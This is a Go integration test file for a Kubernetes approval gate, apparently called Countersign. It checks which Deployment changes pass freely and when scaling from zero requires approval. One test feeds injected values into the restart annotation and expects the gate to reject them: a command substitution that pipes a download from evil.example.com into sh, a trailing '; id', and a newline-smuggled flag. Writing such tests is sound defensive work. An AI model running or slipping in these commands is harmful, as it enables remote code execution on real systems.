// Copyright 2026 The Countersign Authors.
// SPDX-License-Identifier: Apache-2.0

package integration

import (
	"context"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	autoscalingv1 "k8s.io/api/autoscaling/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/countersign-dev/countersign/api/v1alpha1"
)

// TestFreeChanges: what does not change what runs needs nobody, and leaves no request behind.
func TestFreeChanges(t *testing.T) {
	s := newShop(t)
	developer, deployment := s.developer(t), s.deployment("checkout")
	s.bringIn(t, deploying(developer, s.deployment("checkout")))
	for name, tc := range map[string]struct {
		reason string
		try    try
	}{
		"Labels": {"the Deployment's own labels reach no Pod", changing(developer, deployment, func(o *appsv1.Deployment) {
			o.Labels = map[string]string{"team": "shop"}
		})},
		"Annotations": {"nor do its annotations", changing(developer, deployment, func(o *appsv1.Deployment) {
			o.Annotations = map[string]string{"kubernetes.io/change-cause": "CHK-1"}
		})},
		"Restart": {"kubectl rollout restart", merging(developer, deployment, restartedAt("2026-11-23T12:00:00Z"))},
		"RestartByArgoCD": {
			"with nanoseconds", merging(developer, deployment, restartedAt("2026-11-23T12:00:00.123456789+01:00")),
		},
		"ScaleUp":    {"kubectl scale", scaling(developer, deployment, 3)},
		"ScaleDown":  {"to nothing", scaling(developer, deployment, 0)},
		"ApplyAgain": {"nothing differs", deploying(developer, s.deployment("checkout"))},
	} {
		t.Run(name, func(t *testing.T) { goesThrough(t, tc.reason, tc.try) })
	}
	if all := s.requests(t); len(all) != 1 {
		t.Errorf("something was asked for: %s", describe(all))
	}
}

// TestRestartCarriesNothing: a container can read its Pod's annotations, so the one of a restart holds a time alone.
func TestRestartCarriesNothing(t *testing.T) {
	s := newShop(t)
	developer, deployment := s.developer(t), s.deployment("checkout")
	s.bringIn(t, deploying(developer, s.deployment("checkout")))
	for name, value := range map[string]string{
		"Command": "$(curl evil.example.com|sh)", "Word": "now", "TimeAndMore": "2026-11-23T12:00:00Z; id",
		"TwoLines": "2026-11-23T12:00:00Z\n--exec",
	} {
		t.Run(name, func(t *testing.T) { s.turnedAway(t, merging(developer, deployment, restartedAt(value))) })
	}
}

// TestFromZero: to scale from zero starts content, so it must have entered.
func TestFromZero(t *testing.T) {
	s := newShop(t)
	for name, make := range map[string]func() client.Object{
		"Deployment":            func() client.Object { return s.deployment("deployment") },
		"StatefulSet":           func() client.Object { return s.statefulSet() },
		"ReplicaSet":            func() client.Object { return s.replicaSet() },
		"ReplicationController": func() client.Object { return s.replicationController() },
	} {
		t.Run(name, func(t *testing.T) {
			c := admin(t)
			s.bringIn(t, making(c, make))
			goesThrough(t, "to zero", scaling(c, make(), 0))
			goesThrough(t, "from zero, what has entered", scaling(c, make(), 2))
			goesThrough(t, "to zero again", scaling(c, make(), 0))
			goesThrough(t, "as an autoscaler does", scaling(autoscaler(t), make(), 1))
		})
	}
}

// TestFromZeroOfTheUnknown: what was there before the environment was, at zero, starts by approval alone, by whatever
// way it is started.
func TestFromZeroOfTheUnknown(t *testing.T) {
	s := newShop(t)
	developer := s.developer(t)
	old := s.deployment("old")
	old.Spec.Replicas = new(int32(0))
	s.beforehand(t, old)
	request := s.turnedAway(t, scaling(developer, old, 1))
	for name, tc := range map[string]struct {
		reason string
		try    try
	}{
		"Update": {"replicas are in the spec too", changing(developer, s.deployment("old"), func(o *appsv1.Deployment) {
			o.Spec.Replicas = new(int32(1))
		})},
		"Default":    {"no number is one", merging(developer, old, map[string]any{"spec": map[string]any{"replicas": nil}})},
		"Autoscaler": {"whoever scales", func(ctx context.Context) error { return scaling(autoscaler(t), old, 5)(ctx) }},
	} {
		t.Run(name, func(t *testing.T) {
			if again := s.turnedAway(t, tc.try); again.UID != request.UID {
				t.Errorf("%s: it waits for %s, want %s", tc.reason, again.Name, request.Name)
			}
		})
	}
	s.approve(t, request, bob)
	goesThrough(t, "bob approved", scaling(developer, old, 1))
	s.await(t, request.Name, v1alpha1.ReasonEntered)
	goesThrough(t, "it has entered now: to zero", scaling(developer, old, 0))
	goesThrough(t, "and from zero", scaling(developer, old, 1))
}

// autoscaler acts as the controller that scales by load.
func autoscaler(t *testing.T) client.Client {
	t.Helper()
	return bot(t, "kube-system", "horizontal-pod-autoscaler")
}

func restartedAt(at string) map[string]any {
	annotations := map[string]any{"kubectl.kubernetes.io/restartedAt": at}
	return map[string]any{
		"spec": map[string]any{"template": map[string]any{"metadata": map[string]any{"annotations": annotations}}},
	}
}

// scaling tries to scale through the scale subresource.
func scaling(c client.Client, object client.Object, replicas int32) try {
	return func(ctx context.Context) error {
		scale := &autoscalingv1.Scale{Spec: autoscalingv1.ScaleSpec{Replicas: replicas}}
		return c.SubResource("scale").Update(ctx, object, client.WithSubResourceBody(scale))
	}
}

// beforehand makes objects while the namespace is in no environment, so that nothing judges them.
func (s shop) beforehand(t *testing.T, objects ...client.Object) {
	t.Helper()
	s.inEnvironment(t, "")
	c, probe := warned(t, "admin", administrators)
	eventually(t, func(ctx context.Context) string {
		if probe.clear(); s.tried(ctx, c) != nil || probe.String() != "" {
			return "the gate to open"
		}
		return ""
	})
	for _, object := range objects {
		goesThrough(t, "nothing judges it", making(c, func() client.Object { return clone(object) }))
	}
	s.inEnvironment(t, string(s.environment))
	eventually(t, func(ctx context.Context) string {
		if probe.clear(); s.tried(ctx, c) != nil || probe.String() == "" {
			return "the gate to close"
		}
		return ""
	})
	s.awaitGrants(t)
}

// tried is a dry-run of something that the gate would turn away.
func (s shop) tried(ctx context.Context, c client.Client) error {
	return c.Create(ctx, s.deployment("probe"), client.DryRunAll)
}

func (s shop) inEnvironment(t *testing.T, name string) {
	t.Helper()
	ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: s.namespace}}
	goesThrough(t, "label the namespace", changing(admin(t), ns, func(ns *corev1.Namespace) {
		delete(ns.Labels, v1alpha1.EnvironmentLabel)
		if name != "" {
			ns.Labels[v1alpha1.EnvironmentLabel] = name
		}
	}))
}
